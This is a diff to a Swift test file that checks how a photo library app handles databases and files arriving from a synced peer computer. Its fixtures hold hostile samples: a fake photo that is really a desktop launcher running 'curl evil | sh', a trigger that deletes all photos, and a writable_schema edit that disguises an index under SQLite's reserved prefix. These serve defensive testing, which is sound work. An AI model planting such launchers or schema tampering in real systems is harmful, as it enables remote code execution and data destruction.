@@ -36,6 +36,117 @@ final class ForeignDatabaseTests: LibraryTestCase {
         }.sorted()
     }
 
+    /// What makes a database of today's schema one of version 8, which named no computer.
+    private static let asVersion8 = """
+        DROP TABLE maker; DROP TABLE machine; DROP TABLE seen_files; DROP TABLE set_aside_files; DROP TABLE pending_dates;
+        ALTER TABLE photos DROP COLUMN taken_clock_ms; ALTER TABLE photos DROP COLUMN taken_offset_min; PRAGMA user_version = 8;
+        """
+
+    /// Puts the peer's photos, sidecars and database in the library's folder, under a folder
+    /// Syncthing shares: the library's own, or `sharedAbove`.
+    private func arrive(from peer: URL, sharedAbove: Bool = false) throws {
+        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
+        let shared = sharedAbove ? directory.deletingLastPathComponent() : directory
+        FileManager.default.createFile(atPath: shared.appendingPathComponent(".stfolder").path, contents: nil)
+        try FileManager.default.copyItem(at: peer.appendingPathComponent("photos"), to: directory.appendingPathComponent("photos"))
+        try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3"), to: database)
+    }
+
+    func testADatabaseFromBeforeVersion9InASharedFolderIsMadeAgainFromTheSidecarsNotTaken() throws {
+        let peer = folder.url.appendingPathComponent("peer")
+        try peerLibrary(peer, labels: ["Lake"])
+        try LibraryFixture.execute(Self.asVersion8 + "UPDATE photos SET label = 'PEER SAYS HI';", in: peer.appendingPathComponent("library.sqlite3"))
+        try arrive(from: peer, sharedAbove: true)
+
+        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake"], "the peer's rows were taken")
+        XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
+    }
+
+    func testADatabaseFromBeforeSidecarsInASharedFolderIsRefusedAndKeptWhereItIs() throws {
+        let peer = folder.url.appendingPathComponent("peer")
+        try peerLibrary(peer, labels: ["Lake"])
+        try LibraryFixture.execute(Self.asVersion8 + "PRAGMA user_version = 4;", in: peer.appendingPathComponent("library.sqlite3"))
+        try arrive(from: peer)
+        let before = try Data(contentsOf: database)
+
+        XCTAssertThrowsError(try Library(directory: directory)) { error in
+            guard case .olderDatabaseInSharedFolder(let file, version: 4, let shared)? = error as? LibraryError else { return XCTFail("\(error)") }
+            XCTAssertEqual([file.path, shared.standardizedFileURL.path], [database.path, directory.standardizedFileURL.path])
+        }
+        XCTAssertEqual(try Data(contentsOf: database), before, "its labels are in it alone")
+        XCTAssertEqual(try asideFiles("from-elsewhere"), [])
+    }
+
+    /// Spoils the page where the database keeps its token, as a peer would to have it left unjudged.
+    private func spoilTokenPage(of file: URL) throws {
+        try LibraryFixture.execute("PRAGMA wal_checkpoint(TRUNCATE)", in: file)
+        let page = try LibraryFixture.integer("PRAGMA page_size", in: file)
+        let root = try LibraryFixture.integer("SELECT rootpage FROM sqlite_master WHERE name = 'maker'", in: file)
+        let handle = try FileHandle(forUpdating: file)
+        try handle.seek(toOffset: UInt64((root - 1) * page))
+        try handle.write(contentsOf: Data(repeating: 0xA5, count: page))
+        try handle.close()
+    }
+
+    func testADatabaseWhoseTokenCannotBeReadIsNeverUsedAsItIs() throws {
+        let peer = folder.url.appendingPathComponent("peer")
+        try peerLibrary(peer, labels: ["Lake"])
+        try LibraryFixture.execute("UPDATE machine SET host = 'peer'; UPDATE photos SET label = 'PEER SAYS HI'",
+                                   in: peer.appendingPathComponent("library.sqlite3"))
+        try spoilTokenPage(of: peer.appendingPathComponent("library.sqlite3"))
+        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
+        try FileManager.default.copyItem(at: peer.appendingPathComponent("library.sqlite3"), to: database)
+        try FileManager.default.copyItem(at: peer.appendingPathComponent("photos"), to: directory.appendingPathComponent("photos"))
+
+        // Where no peer can have put it, it is this computer's, damaged: refused, with the rebuild.
+        XCTAssertThrowsError(try Library(directory: directory)) { error in
+            XCTAssertTrue((error as? LibraryError)?.isMendedByRebuild == true, "\(error)")
+        }
+        XCTAssertEqual(try asideFiles("from-elsewhere"), [])
+
+        FileManager.default.createFile(atPath: directory.appendingPathComponent(".stfolder").path, contents: nil)
+        let library = try Library(directory: directory)
+        XCTAssertEqual(try library.photos().map(\.label), ["Lake"], "the peer's database was used as it is")
+        XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
+    }
+
+    func testACopyThatIsNoPhotoBesideADatabaseFromElsewhereIsSetAsideByTheRebuild() throws {
+        let peer = folder.url.appendingPathComponent("peer")
+        try peerLibrary(peer, labels: ["Lake"])
+        let photos = peer.appendingPathComponent("photos")
+        let sidecar = try XCTUnwrap(try FileManager.default.contentsOfDirectory(atPath: photos.path).first { $0.hasSuffix(".xmp") })
+        let fake = photos.appendingPathComponent(String(repeating: "1", count: 64) + ".jpeg")
+        try Data("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n".utf8).write(to: fake)
+        let text = try String(contentsOf: photos.appendingPathComponent(sidecar), encoding: .utf8)
+        try text.replacingOccurrences(of: "Lake", with: "Launcher").write(to: URL(fileURLWithPath: fake.path + ".xmp"), atomically: true, encoding: .utf8)
+        try arrive(from: peer)
+
+        let library = try Library(directory: directory)
+
+        XCTAssertEqual(try library.photos().map(\.label), ["Lake"], "the peer's file was taken as a photo")
+        let kept = directory.appendingPathComponent("photos").appendingPathComponent(fake.lastPathComponent)
+        XCTAssertTrue(FileManager.default.fileExists(atPath: kept.path), "set aside where it is, never deleted")
+        let findings = try library.check()
+        XCTAssertTrue(findings.contains {
+            if case .setAside(let file, why: .otherContent) = $0 { file.path == kept.path } else { false }
+        }, "\(findings)")
+    }
+
+    func testARebuildStillRestoresEveryLabel() throws {
+        do {
+            let library = try Library(directory: directory)
+            for (label, photo) in zip(["Lake", "Hill", "Sea"], SamplePhotos.cameras) {
+                _ = try library.add(try candidate(photo), label: try Label(label))
+            }
+        }
+
+        let report = try LibraryRebuild.run(directory: directory)
+
+        XCTAssertEqual(report.photos, 3)
+        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake", "Hill", "Sea"])
+        XCTAssertTrue(try Library(directory: directory).check().isEmpty)
+    }
+
     func testADatabaseFromAnotherComputerArrivingBeforeTheFirstOpenIsSetAsideAndTheIndexMadeFromTheSidecars() throws {
         let peer = folder.url.appendingPathComponent("peer")
         try peerLibrary(peer, labels: ["Lake", "Hill"])
@@ -83,7 +194,13 @@ final class ForeignDatabaseTests: LibraryTestCase {
         for (name, sql) in [("no_more_imports", Self.hostileTrigger),
                             ("forget", "CREATE TRIGGER forget AFTER UPDATE ON photos BEGIN DELETE FROM photos; END;"),
                             ("everything", "CREATE VIEW everything AS SELECT * FROM photos"),
-                            ("photos", "ALTER TABLE photos ADD COLUMN spy TEXT CHECK (spy IS NULL)")] {
+                            ("photos", "ALTER TABLE photos ADD COLUMN spy TEXT CHECK (spy IS NULL)"),
+                            // SQLite loads any name written into its schema, its own prefix too.
+                            ("sqlite_evil", """
+                             CREATE UNIQUE INDEX evil ON photos (label); PRAGMA writable_schema = ON;
+                             UPDATE sqlite_master SET name = 'sqlite_evil', sql = 'CREATE UNIQUE INDEX sqlite_evil ON photos (label)'
+                             WHERE name = 'evil';
+                             """)] {
             try? FileManager.default.removeItem(at: directory)
             _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("kept"))
             try LibraryFixture.execute(sql, in: database)
@@ -98,6 +215,15 @@ final class ForeignDatabaseTests: LibraryTestCase {
             }
             XCTAssertEqual(try LibraryFixture.integer("SELECT count(*) FROM photos", in: database), 1, "\(name): nothing was lost")
         }
+    }
+
+    func testSQLitesOwnStatisticsAndConstraintIndexesPassTheSchemaCheck() throws {
+        _ = try Library(directory: directory).add(try candidate(SamplePhotos.cameras[0]), label: try Label("kept"))
+        try LibraryFixture.execute("ANALYZE", in: database)
+        XCTAssertGreaterThan(try LibraryFixture.integer("SELECT count(*) FROM sqlite_master WHERE name LIKE 'sqlite_stat%'", in: database), 0)
+        XCTAssertGreaterThan(try LibraryFixture.integer("SELECT count(*) FROM sqlite_master WHERE name LIKE 'sqlite_autoindex_%'", in: database), 0)
+
+        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["kept"])
     }
 
     func testAnOlderDatabaseOfThisComputerIsTakenOnceAndAnotherComputersIsNot() throws {
